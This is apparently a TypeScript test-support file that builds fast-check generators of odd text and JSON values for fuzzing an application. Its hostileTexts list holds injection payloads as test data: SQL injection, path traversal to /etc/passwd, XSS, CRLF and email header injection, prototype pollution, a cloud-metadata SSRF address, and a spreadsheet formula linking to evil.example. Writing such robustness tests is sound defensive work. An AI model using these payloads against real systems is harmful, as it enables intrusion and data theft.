import fc from "fast-check";
import { anyText } from "#tests/support/any-text.ts";
import { headerMark, markupAsElement, markupMark, privateMark } from "./marks.ts";

/** One of the second in so many percent of all cases, else undefined; a failure is shrunk to undefined where it can be. */
export function maybe<T>(percent: number, arbitrary: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> {
  return fc.oneof(
    { withCrossShrink: true },
    { weight: 100 - percent, arbitrary: fc.constant(undefined) },
    { weight: percent, arbitrary },
  );
}

const hostileTexts = [
  "",
  `${privateMark}\u0000`,
  `${privateMark}\udc00\ud83d`,
  "\u202e\u200b\ufeff\u2028\u2029",
  markupMark,
  `</script>${markupAsElement}`,
  `javascript:alert("${privateMark}")`,
  `${privateMark}\r\n${headerMark}: 1\r\n\r\n<html>`,
  `x@y.example\nBcc: ${privateMark}@evil.example`,
  `'; drop table lead; -- ${privateMark}`,
  "1' or '1'='1",
  "%00%0d%0a%2e%2e%2f",
  "../../../../etc/passwd",
  "$" + "{7*7}{{7*7}}<%= 7*7 %>%s%n%x",
  `=HYPERLINK("http://evil.example/${privateMark}")`,
  "NaN",
  "1e999",
  "2025-02-30T25:61:61Z",
  "__proto__",
  "constructor",
  "http://169.254.169.254/latest/meta-data",
  "http://[::ffff:127.0.0.1]:22/",
  "file:///etc/passwd",
  `https://${privateMark}.example/${"a/".repeat(900)}`,
];

/** Input on which a careless expression would never end. */
const repeated = fc
  .tuple(fc.constantFrom("a", " ", "a@", "1,", "<a ", "é漢😀", privateMark), fc.constantFrom(1, 50, 2_000, 20_000))
  .map(([part, times]) => `${part.repeat(times)}!`);

export const oddText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 2, arbitrary: repeated },
  { weight: 2, arbitrary: anyText() },
);

const deep = fc.tuple(fc.integer({ min: 1, max: 2_000 }), fc.boolean()).map(([depth, isList]) => {
  let value: unknown = privateMark;
  for (let level = 0; level < depth; level++) value = isList ? [value] : { a: value };
  return value;
});
const wide = fc.constantFrom<unknown>(
  Array.from({ length: 2_000 }, () => 0),
  Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`k${index}`, index])),
);

/** A value of any kind that JSON has. */
export const oddValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: oddText },
  { weight: 2, arbitrary: fc.double() },
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  deep,
  wide,
);
